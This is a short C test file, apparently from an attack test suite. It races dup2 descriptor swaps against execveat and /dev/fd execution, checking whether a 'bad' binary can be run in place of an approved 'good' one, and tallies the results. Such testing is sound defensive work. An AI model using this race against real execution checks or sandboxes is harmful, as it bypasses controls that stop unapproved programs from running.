/* fd_swap GOOD BAD TRIES: a thread swaps the file behind a descriptor while another runs it by that descriptor. */
#include "attack.h"

static int good, bad, used;

static void *swap(void *unused) {
    for (;;) {
        dup2(bad, used);
        linger();
        dup2(good, used);
        linger();
    }
}

int main(int argc, char **argv) {
    struct tally t = {0};
    for (int i = 0; i < atoi(argv[3]); i++) {
        pid_t pid = fork();
        if (pid == 0) {
            good = open(argv[1], O_RDONLY), bad = open(argv[2], O_RDONLY), used = dup(good);
            pthread_t thread;
            char *args[] = {"x", 0}, *env[] = {0}, path[64];
            snprintf(path, sizeof path, "/dev/fd/%d", used);
            if (pthread_create(&thread, 0, swap, 0)) _exit(2);
            for (int tries = 0; tries < 10; tries++) {
                syscall(SYS_execveat, used, "", args, env, AT_EMPTY_PATH);
                execve(path, args, env);
            }
            _exit(1);
        }
        count(&t, pid);
    }
    return verdict(&t);
}
